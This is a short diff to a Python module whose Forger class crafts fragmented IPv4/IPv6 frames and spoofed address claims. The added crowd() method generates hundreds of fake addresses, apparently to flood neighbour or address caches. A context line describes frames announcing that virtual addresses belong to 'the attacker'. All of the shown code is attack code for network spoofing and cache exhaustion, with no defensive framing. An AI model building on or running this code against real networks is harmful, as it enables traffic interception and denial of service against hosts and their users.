@@ -22,6 +22,7 @@ HOP_BY_HOP, FRAGMENT = 0, 44
 OPTIONS = b"\x01\x01\x01\x01"
 MORE_FRAGMENTS = {4: 0x2000, 6: 1}
 FRAGMENT_LENGTH = 1440
+CROWD = 500
 
 
 class Forger:
@@ -84,6 +85,10 @@ class Forger:
             else:
                 header = struct.pack("!BBHI", PROTOCOL, 0, at | more, number)
                 yield self.frame(header + piece, ttl=ttl, kind=FRAGMENT)
+
+    def crowd(self) -> list[bytes]:
+        """Return more addresses than anybody keeps in mind."""
+        return [self.stranger[:-2] + struct.pack("!H", number) for number in range(0x4000, 0x4000 + CROWD)]
 
     def claims(self) -> tuple[bytes, ...]:
         """Return the frames that tell everybody that the virtual addresses are the attacker's."""
